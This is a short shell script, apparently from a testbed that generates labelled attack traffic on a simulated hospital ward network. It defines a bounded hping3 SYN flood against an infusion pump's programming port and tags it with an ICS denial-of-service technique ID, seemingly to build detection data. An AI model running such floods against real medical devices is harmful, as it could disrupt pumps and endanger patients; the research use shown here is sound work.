# SYN flood against pump 1's programming port (hping3 -S, 3000 packets at 2000/s, bounded).
DEFAULT_DURATION=30
attack_syn_flood() {
  command -v hping3 > /dev/null || { echo "hping3 missing (scripts/install-deps.sh)" >&2; return 1; }
  local t0 t1
  t0=$(now)
  run_in attacker hping3 20 hping3 -q -S -p 3000 -i u500 -c 3000 10.10.2.21
  t1=$(now)
  label syn_flood T0814 attacker pump1 "$t0" "$t1" \
    "hping3 -S: 3000 TCP SYN to 10.10.2.21:3000 at about 2000 packets/s"
}
scenario_run() {
  start_ward "$1"
  sleep 6
  attack_syn_flood
}
